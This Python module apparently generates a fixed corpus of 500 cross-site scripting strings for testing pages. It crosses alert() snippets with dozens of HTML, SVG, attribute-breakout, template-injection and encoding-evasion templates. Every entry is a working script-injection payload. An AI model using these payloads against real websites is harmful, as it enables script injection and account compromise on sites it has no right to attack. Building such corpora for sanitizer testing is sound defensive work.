"""500 strings that would run, restyle or reorder a page that took them for more than text."""

import html
import itertools
import urllib.parse

COUNT = 500

# What runs says so by calling alert().
SCRIPTS = ["alert(1)", "alert`1`", "top.alert(document.domain)", "(alert)(1)", "eval('ale'+'rt(1)')", "setTimeout('alert(1)')",
           "Function('alert(1)')()", "import('data:text/javascript,alert(1)')"]

TEMPLATES = [
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script src=data:text/javascript,{js}></script>",
    "<script\x0c>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=x onerror=\"{js}\">",
    "<IMG SRC=1 ONERROR={js}//",
    "<img/src/onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:{js}\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<body onload={js}>",
    "<iframe src=\"javascript:{js}\"></iframe>",
    "<iframe srcdoc=\"<script>{js}</script>\">",
    "<object data=\"javascript:{js}\">",
    "<embed src=\"data:text/html,<script>{js}</script>\">",
    "<a href=\"javascript:{js}\">here</a>",
    "<a href=\"java\tscript:{js}\">here</a>",
    "<form action=\"javascript:{js}\"><button>send</button></form>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>",
    "<div style=\"animation-name:x\" onanimationstart={js}>",
    "<div onpointerover={js} style=\"position:fixed;inset:0\">",
    "<style>@import 'data:text/css,*{{background:url(//example.org)}}'</style>{js}",
    "<link rel=stylesheet href=data:text/css,*{{display:none}}>{js}",
    "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">",
    "<base href=\"//example.org/\">{js}",
    "<template><script>{js}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<!--><script>{js}</script>-->",
    "]]><script>{js}</script>",
    "</script><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "\"><script>{js}</script>",
    "' onmouseover='{js}' x='",
    "\" autofocus onfocus=\"{js}\" x=\"",
    "`${{{js}}}`",
    "{{{{constructor.constructor('{js}')()}}}}",
    "javascript:{js}",
    "javascript://%0a{js}",
    "data:text/html,<script>{js}</script>",
    "';{js}//",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\u202e<script>{js}</script>\u202c",
    "\u2066\u202e>tpircs/<{js}\u2069",
    "\x1b]0;<img src=x onerror={js}>\x07",
    "\ufeff<img src=x onerror={js}>\u200b",
    "<x onclick={js} tabindex=0>__proto__</x>",
    "__proto__\"><img src=x onerror={js}>",
    "data: x\n\nevent: alert\ndata: <img src=x onerror={js}>\n\n",
]


def xss_strings():
    """The same 500 each time, each of them once."""
    written = {}
    for js, template in itertools.product(SCRIPTS, TEMPLATES):
        written.setdefault(template.format(js=js))
    # Encoded once: a page that decodes what it was not asked to would run these.
    for encode in (html.escape, urllib.parse.quote):
        for template in TEMPLATES:
            written.setdefault(encode(template.format(js=SCRIPTS[0])))
    strings = list(written)[:COUNT]
    assert len(strings) == COUNT, f"{len(written)} strings"
    return strings
